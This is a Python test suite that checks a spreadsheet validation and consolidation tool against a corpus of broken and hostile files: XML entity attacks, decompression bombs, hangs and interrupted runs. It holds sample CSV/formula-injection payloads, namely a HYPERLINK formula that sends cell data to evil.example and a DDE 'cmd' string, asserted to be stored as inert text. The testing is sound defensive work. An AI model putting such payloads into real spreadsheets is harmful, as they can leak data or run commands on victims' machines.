"""Broken and hostile input (issue 8): every file read correctly or reported clearly, the batch
goes on, every input accounted for, nothing injected into what xltools writes, nothing written
outside OUTDIR, no traceback. The corpus is tests/hostile_corpus.py."""

from __future__ import annotations

import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hostile_corpus import CASES, SKIPPED, SUPERSEDED, UNREADABLE, available, build_corpus
from openpyxl import load_workbook

from xltools import UnreadableError
from xltools.batch import Limits, check_paths, collect_inputs
from xltools.consolidate import ANNOTATED_DIR, RESULTS_NAME, SUMMARY_NAME, consolidate
from xltools.pipeline import check_file
from xltools.reader.sniff import Limits as SniffLimits
from xltools.reader.sniff import sniff
from xltools.template import build_template

CLI = [
    sys.executable,
    "-m",
    "xltools",
]  # the entry point users run (a Ctrl-C while loading exits 130)
AVAILABLE = [c for c in CASES if all(available(n) for n in c.needs)]
BY_KIND = {c.kind: c for c in CASES}


def _run(args: list[str], **kw) -> subprocess.CompletedProcess:
    return subprocess.run(CLI + args, capture_output=True, text=True, timeout=600, **kw)


def _snapshot(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="session")
def corpus(tmp_path_factory):
    root = tmp_path_factory.mktemp("corpus") / "收件箱"
    built = build_corpus(root)
    return root, built


@pytest.fixture(scope="session")
def checked(corpus):
    """Every corpus file (skipped ones aside) read and checked in isolated workers."""
    root, built = corpus
    files = [p for c in AVAILABLE if c.status != SKIPPED for p in built[c.kind]]
    reports = check_paths(files, jobs=2)
    return {Path(r.file): r for r in reports}


def test_corpus_is_large_enough():
    assert len(CASES) >= 40
    assert len({c.kind for c in CASES}) == len(CASES)


# --- check: library ---------------------------------------------------------------------------


@pytest.mark.parametrize("case", AVAILABLE, ids=lambda c: c.kind)
def test_check_status_rule_message(case, corpus, checked):
    root, built = corpus
    if case.status == SKIPPED:
        inputs = collect_inputs([root / case.kind])
        assert not inputs.files
        notes = {p: why for p, why in inputs.skipped}
        for p in built[case.kind]:
            assert case.fragment in notes[p]
        return
    for p in built[case.kind]:
        r = checked[p]
        assert r.status == case.status, [f.message for f in r.findings]
        if case.rule:
            hits = [f for f in r.findings if f.rule == case.rule]
            assert hits, [(f.rule, f.message) for f in r.findings]
            if case.fragment:
                assert any(case.fragment in f.message for f in hits), [f.message for f in hits]
        for f in r.findings:
            assert f.message and any(
                "\u4e00" <= ch <= "\u9fff" for ch in f.message
            )  # Chinese, never empty
            assert "Traceback" not in f.message and "内部错误" not in f.message
        if case.status == "unreadable":
            assert not r.values
        else:
            assert r.form in ("2021", "2019")


@pytest.mark.parametrize(
    "case",
    [c for c in AVAILABLE if c.status != SKIPPED and not c.isolate_only],
    ids=lambda c: c.kind,
)
def test_check_in_process_agrees(case, corpus, checked):
    """check_file in this process (no isolation) raises nothing and agrees with the workers."""
    _, built = corpus
    for p in built[case.kind]:
        r = check_file(p)
        assert (r.status, [f.rule for f in r.findings]) == (
            checked[p].status,
            [f.rule for f in checked[p].findings],
        )


def test_values_of_files_saved_by_libreoffice_are_read(corpus, checked):
    _, built = corpus
    kinds = [
        k
        for k in (
            "xls-libreoffice",
            "ods-libreoffice",
            "xlsx-resaved-libreoffice",
            "xls-named-xlsx",
        )
        if k in built
    ]
    if not kinds:
        pytest.skip("LibreOffice is not installed")
    plain = checked[built["max-dimension"][0]].values
    for k in kinds:
        v = checked[built[k][0]].values
        numbers = {key: x for key, x in v.items() if key.startswith("t")}
        assert numbers == {key: x for key, x in plain.items() if key.startswith("t")}, k


def test_nothing_the_file_contains_leaks_into_messages(corpus, checked):
    _, built = corpus
    for kind in ("xxe-sst", "xxe-workbook"):
        for p in built[kind]:
            text = json.dumps([f.to_dict() for f in checked[p].findings], ensure_ascii=False)
            assert "root:" not in text and "/bin/" not in text


# --- check: command line ------------------------------------------------------------------------


def test_cli_check_whole_corpus(corpus, checked, tmp_path):
    root, built = corpus
    before = _snapshot(root)
    ann = tmp_path / "批注"
    proc = _run(["check", str(root), "--json", "--annotate", str(ann), "-j", "2"])
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr and "panicked" not in proc.stderr
    doc = json.loads(proc.stdout)
    by_file = {Path(f["file"]): f for f in doc["files"]}
    for c in AVAILABLE:
        for p in built[c.kind]:
            if c.status == SKIPPED:
                assert p not in by_file and str(p) in proc.stderr
            else:
                assert by_file[p]["status"] == c.status, c.kind
                if c.rule:
                    assert any(f["rule"] == c.rule for f in by_file[p]["findings"]), c.kind
    assert _snapshot(root) == before  # inputs never modified
    _assert_annotated_copies_inert(ann, built)


def test_cli_check_single_files_exit_codes(corpus):
    _, built = corpus
    for kind, code in (("empty", 1), ("agency-equals", 0), ("negative", 1), ("number-as-text", 0)):
        proc = _run(["check", str(built[kind][0])])
        assert proc.returncode == code, (kind, proc.stdout, proc.stderr)
        assert "Traceback" not in proc.stderr
    proc = _run(["check", str(built["empty"][0]), "--json"])
    assert json.loads(proc.stdout)["files"][0]["findings"][0]["message"].startswith("文件为空")


# --- consolidate ---------------------------------------------------------------------------------


def _template_formulas() -> set[tuple[str, str]]:
    import tempfile

    out = set()
    with tempfile.TemporaryDirectory() as tmp:
        for form in ("2021", "2019"):
            wb = load_workbook(build_template(Path(tmp) / f"{form}.xlsx", form))
            out |= {
                (ws.title, c.coordinate)
                for ws in wb.worksheets
                for row in ws.iter_rows()
                for c in row
                if c.data_type == "f"
            }
    return out


def _formula_cells(path: Path) -> set[tuple[str, str]]:
    wb = load_workbook(path)
    return {
        (ws.title, c.coordinate)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    }


def _assert_annotated_copies_inert(folder: Path, built: dict[str, list[Path]]) -> None:
    """Annotated copies: no formula in 校验结果; elsewhere only formulas the input itself had
    (an unreadable input's copy is the template refilled: its input is never opened, here
    neither — a bomb stays unopened)."""
    from xltools.annotate import annotated_name

    copies = sorted(folder.iterdir())
    assert copies
    inputs = [(p, c.status == UNREADABLE) for c in AVAILABLE for p in built[c.kind]]
    source = {annotated_name(p, folder).name: (p, bad) for p, bad in inputs}
    for copy in copies:
        assert copy.suffix == ".xlsx" and copy.parent == folder
        assert (
            not copy.name.startswith(("=", "+", "-", "@"))
            and "\\" not in copy.name
            and ".." not in copy.name
        )
        wb = load_workbook(copy)
        results = wb["校验结果"]
        assert all(c.data_type != "f" for row in results.iter_rows() for c in row), copy
        src, unreadable = source[copy.name]
        try:
            own = _template_formulas() if unreadable else _formula_cells(src)
        except Exception:  # .xls/.ods: the copy is the template refilled
            own = _template_formulas()
        extra = {x for x in _formula_cells(copy) if x not in own and x[0] != "校验结果"}
        assert not extra, (copy, extra)


@pytest.fixture(scope="session")
def consolidated(corpus, tmp_path_factory):
    root, built = corpus
    base = tmp_path_factory.mktemp("consolidated")
    outdir = base / "汇总结果"
    before = _snapshot(root)
    listing = sorted(p.name for p in base.parent.iterdir())
    proc = _run(["consolidate", str(root), "-o", str(outdir), "-j", "2", "--year", "2022"])
    return root, built, outdir, proc, before, listing, base


def test_consolidate_accounts_for_every_input(consolidated):
    root, built, outdir, proc, before, _, _ = consolidated
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    doc = json.loads((outdir / RESULTS_NAME).read_text(encoding="utf-8"))
    entries = {Path(e["file"]): e for e in doc["entries"] if e["file"]}
    skipped = {Path(s["file"]): s["note"] for s in doc["skipped"]}
    every_file = {p for p in root.rglob("*") if p.is_file()}
    assert every_file == set(entries) | set(skipped)
    for c in AVAILABLE:
        files = built[c.kind]
        if c.status == SKIPPED:
            assert all(c.fragment in skipped[p] for p in files), c.kind
            continue
        statuses = tuple(sorted(entries[p]["status"] for p in files))
        want = c.consolidated or tuple([c.status] * len(files))
        if c.kind == "form-2019-for-2022":
            want = ("errors",)
        assert statuses == tuple(sorted(want)), c.kind
        for p in files:
            e = entries[p]
            if e["status"] == SUPERSEDED:
                assert e["note"]
            assert e["included"] == (e["status"] in ("ok", "warnings"))
    assert _snapshot(root) == before


def test_consolidate_writes_only_inside_outdir_and_no_live_formulas(consolidated):
    root, built, outdir, proc, before, listing, base = consolidated
    assert sorted(p.name for p in base.parent.iterdir()) == listing
    assert {p.name for p in base.iterdir()} == {outdir.name}
    assert not Path("/tmp/xltools-evil").exists()
    for p in outdir.rglob("*"):
        assert outdir in p.resolve().parents
        assert not p.name.startswith(".~xltools-")
    # the summary: formulas only where the template has them; hostile names stored as text
    summary = outdir / SUMMARY_NAME
    extra = _formula_cells(summary) - _template_formulas()
    assert not extra, sorted(extra)[:10]
    wb = load_workbook(summary)
    names = {c.value for c in wb["报送情况"]["B"] if isinstance(c.value, str)}
    assert '=HYPERLINK("http://evil.example/?"&A1,"点击")' in names
    assert "+1+cmd|' /C calc'!A0" in names
    _assert_annotated_copies_inert(outdir / ANNOTATED_DIR, built)


def test_consolidate_library_agrees_with_cli(consolidated, tmp_path):
    root, built, outdir, *_ = consolidated
    result = consolidate([root], tmp_path / "out", jobs=2, year=2022, annotate=False)
    doc = json.loads((outdir / RESULTS_NAME).read_text(encoding="utf-8"))
    assert sorted((e.file, e.status) for e in result.entries) == sorted(
        (e["file"], e["status"]) for e in doc["entries"]
    )


# --- limits on what one file may cost -------------------------------------------------------------


def test_limits_give_clear_messages(corpus):
    _, built = corpus
    plain = built["max-dimension"][0]
    cases = [
        (SniffLimits(max_file_bytes=10_000), "文件过大"),
        (SniffLimits(max_uncompressed=50_000), "解压后共"),
        (SniffLimits(max_entries=5), "部件"),
        (SniffLimits(max_cells=10, max_area=10**9), "单元格"),
        (SniffLimits(max_area=100), "远在表格之外"),
        (SniffLimits(max_shared_strings=10), "共享字符串"),
    ]
    for limits, fragment in cases:
        if fragment in ("单元格", "远在表格之外"):
            target = built["cell-a1048576"][0] if fragment == "远在表格之外" else plain
        else:
            target = plain
        with pytest.raises(UnreadableError, match=fragment):
            sniff(target, limits)
    sniff(plain)


def test_time_limit_marks_the_file_and_the_batch_goes_on(corpus, tmp_path):
    _, built = corpus
    fifo = tmp_path / "pipe.xlsx"  # opening it blocks forever: a reader that hangs
    os.mkfifo(fifo)
    good = built["max-dimension"][0]
    start = time.monotonic()
    reports = check_paths([fifo, good], jobs=1, limits=Limits(timeout=2))
    assert time.monotonic() - start < 30
    assert reports[0].unreadable and "秒仍未完成" in reports[0].findings[0].message
    assert reports[1].status == "ok"
    inputs = collect_inputs([tmp_path])
    assert [p for p, _ in inputs.skipped] == [fifo]


def test_memory_limit_marks_the_file(corpus):
    _, built = corpus
    big = built["cell-a1048576"][0]  # a million-row range: about 400 MB in the reader
    reports = check_paths(
        [big, built["max-dimension"][0]], jobs=1, limits=Limits(memory_mb=300, timeout=10)
    )
    assert reports[0].unreadable
    # a MemoryError, or the native reader aborting (or hanging after a failed allocation)
    assert any(w in reports[0].findings[0].message for w in ("内存", "意外退出", "秒仍未完成"))
    assert reports[1].status == "ok"


# --- an interrupted run leaves nothing that looks complete ----------------------------------------


@pytest.mark.parametrize(
    "sig", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL], ids=lambda s: s.name
)
def test_interrupted_consolidate(sig, corpus, tmp_path):
    root, built = corpus
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    src = built["max-dimension"][0]
    for i in range(120):
        (inbox / f"单位{i:03d}.xlsx").write_bytes(src.read_bytes())
    outdir = tmp_path / "out"
    for delay in (0.3, 0.8, 1.5, 2.5):
        proc = subprocess.Popen(
            CLI + ["consolidate", str(inbox), "-o", str(outdir), "-j", "2", "--force"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        # the delays count from the moment the run has its workers, not from the interpreter's
        # start: on a loaded machine a signal at 0.3 s can reach Python before it has initialised
        deadline = time.monotonic() + 60
        while (
            len(_processes_mentioning(str(inbox))) < 2
            and proc.poll() is None
            and time.monotonic() < deadline
        ):
            time.sleep(0.05)
        time.sleep(delay)
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=120)
        results = outdir / RESULTS_NAME
        if results.exists():
            doc = json.loads(results.read_text(encoding="utf-8"))  # complete and parseable
            assert len([e for e in doc["entries"] if e["file"]]) == 120
            assert (outdir / SUMMARY_NAME).exists()
        else:
            assert proc.returncode != 0
        # on a loaded machine the signal may land while Python is still starting or importing
        # modules (every frame a module body or the import machinery): no command runs yet
        frames = re.findall(r'File "[^"]*", line \d+, in (\S+)', err)
        before_start = (
            err.startswith("Fatal Python error")
            or bool(frames)
            and all(f in ("<module>", "exec_module") or f.startswith("_") for f in frames)
        )
        assert (
            before_start
            or "Traceback" not in err
            or sig == signal.SIGINT
            and "KeyboardInterrupt" not in err.splitlines()[-1:]
        )
        # no worker outlives its run (a killed parent sends its workers no EOF)
        deadline = time.monotonic() + 10
        while _processes_mentioning(str(inbox)) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not _processes_mentioning(str(inbox))


def _processes_mentioning(text: str) -> list[int]:
    out = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                if text in (p / "cmdline").read_bytes().decode("utf-8", "replace"):
                    out.append(int(p.name))
            except OSError:
                pass
    return out


def test_an_unreadable_files_annotated_copy_never_opens_the_file(tmp_path):
    """The reader gave up on the file (a bomb, a crash, a limit in its isolated worker): its
    annotated copy is the blank template with the reason, written without opening the file —
    even where the file would open (here a workbook with a sheet of its own)."""
    from factory import make_workbook

    from xltools.annotate import annotate
    from xltools.pipeline import unreadable_report

    src = make_workbook(tmp_path / "局.xlsx", meta_agency="聊城市甲局")
    wb = load_workbook(src)
    wb.create_sheet("不应出现")
    wb.save(src)
    report = unreadable_report(str(src), "内存不足（测试）")
    out = annotate(report, tmp_path / "批注.xlsx")
    copy = load_workbook(out)
    assert "不应出现" not in copy.sheetnames
    assert copy.sheetnames[0] == "校验结果"
    texts = [c.value for row in copy["校验结果"].iter_rows() for c in row if c.value]
    assert any("内存不足（测试）" in str(t) for t in texts)
    shown = [c.value for ws in copy for row in ws.iter_rows() for c in row]
    assert "聊城市甲局" not in shown  # nothing of the file's own content


def test_an_unreadable_version_gets_its_copy_only_when_asked(tmp_path):
    """Taking in an unreadable upload writes no annotated copy (it cost the web server 0.1 s
    each); asked for, the copy is the blank template with the reason."""
    from webharness import make_season

    from xltools.season import Season
    from xltools.season.workflow import Actor, Incoming, annotated_copy, take_in

    folder = make_season(tmp_path / "s", ["聊城市甲局"], account=False)
    bad = tmp_path / "甲局.xlsx"
    bad.write_bytes(b"PK\x03\x04" + os.urandom(4000))
    with Season.open(folder) as s:
        done = take_in(
            s, [Incoming(bad, bad.name, link_agency="聊城市甲局")], actor=Actor("测试", "web")
        )
        v = done.outcomes[0].version
        assert v.status == "unreadable" and v.annotated is None
        copy = annotated_copy(s, v)
        assert copy is not None and s.version(v.id).annotated == copy
    wb = load_workbook(copy)
    assert wb.sheetnames[0] == "校验结果"
    reason = v.findings[0].message
    assert any(c.value == reason for row in wb["校验结果"].iter_rows() for c in row)
